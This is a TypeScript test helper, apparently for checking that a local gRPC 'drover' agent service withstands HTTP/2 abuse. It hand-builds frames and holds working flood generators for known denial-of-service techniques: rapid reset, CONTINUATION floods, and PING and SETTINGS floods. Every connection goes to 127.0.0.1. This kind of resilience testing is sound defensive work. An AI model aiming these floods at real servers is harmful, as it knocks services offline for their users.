/** Clients that mean harm: each speaks HTTP/2 by hand, as no library lets one. */
import { connect, type Socket } from "node:net";
import { HTTP2_PREFACE } from "./raw-http2.ts";

export const DATA = 0;
export const HEADERS = 1;
export const RST_STREAM = 3;
export const SETTINGS = 4;
export const PING = 6;
export const CONTINUATION = 9;

const END_HEADERS = 4;

/** One HTTP/2 frame. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header block of literals that enter no table. */
export function headerBlock(headers: readonly (readonly [string, string])[]): Buffer {
  return Buffer.concat(headers.flatMap(([name, value]) => [Buffer.from([0]), literal(name), literal(value)]));
}

function literal(text: string): Buffer {
  const bytes = Buffer.from(text, "latin1");
  if (bytes.length > 126) throw new Error("longer than one length byte can say");
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

/** HEADERS of a gRPC call whose message is still to come. */
export function requestHeaders(stream: number, path = "/drover.v1.AgentService/Heartbeat"): Buffer {
  return frame(HEADERS, END_HEADERS, stream, callTo(path));
}

function callTo(path: string): Buffer {
  return headerBlock([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "127.0.0.1"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ]);
}

const call = callTo("/drover.v1.AgentService/Heartbeat");

export const hello = Buffer.concat([HTTP2_PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]);

/** What a flood repeats; `index` counts from 0. */
export type Flood = (index: number) => Buffer;

const odd = (index: number): number => 2 * index + 1;

/** Floods by name: the frames that cost their sender nothing. */
export const floods = {
  PING: () => frame(PING, 0, 0, Buffer.alloc(8)),
  SETTINGS: () => frame(SETTINGS, 0, 0, Buffer.alloc(0)),
  "rapid reset": (index) =>
    Buffer.concat([requestHeaders(odd(index)), frame(RST_STREAM, 0, odd(index), Buffer.from([0, 0, 0, 8]))]),
  CONTINUATION: (index) =>
    index === 0
      ? frame(HEADERS, 0, 1, call)
      : frame(CONTINUATION, 0, 1, headerBlock([[`x-${index % 100}`, "a"]])),
  "empty CONTINUATION": (index) =>
    index === 0 ? frame(HEADERS, 0, 1, call) : frame(CONTINUATION, 0, 1, Buffer.alloc(0)),
  "empty DATA": (index) => (index === 0 ? requestHeaders(1) : frame(DATA, 0, 1, Buffer.alloc(0))),
  "unknown frames": () => frame(0xbe, 0, 0, Buffer.alloc(0)),
} satisfies Record<string, Flood>;

export type FloodName = keyof typeof floods;

/** Opens a connection that says `bytes`; what comes back is read and counted, as a flooder would to keep going. */
export function hostile(port: number, bytes: Uint8Array = hello): Socket {
  const socket = connect(port, "127.0.0.1");
  socket.on("error", () => {});
  socket.resume();
  socket.write(bytes);
  return socket;
}

/** Sends the flood until the server ends the connection, or `limit` frames are out; resolves to the frames sent. */
export async function flood(
  port: number,
  name: FloodName,
  limit: number,
  burst = 500,
): Promise<{ sent: number; cut: boolean }> {
  const make: Flood = floods[name];
  const socket = hostile(port);
  let cut = false;
  const closed = new Promise<void>((resolve) =>
    socket.once("close", () => {
      cut = true;
      resolve();
    }),
  );
  let sent = 0;
  while (sent < limit && !cut) {
    const many: Buffer[] = [];
    for (let i = 0; i < burst; i += 1) many.push(make(sent + i));
    sent += many.length;
    if (!socket.write(Buffer.concat(many)))
      await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), closed]);
    else await new Promise((resolve) => setImmediate(resolve));
  }
  const wasCut = cut || socket.destroyed;
  socket.destroy();
  return { sent, cut: wasCut };
}
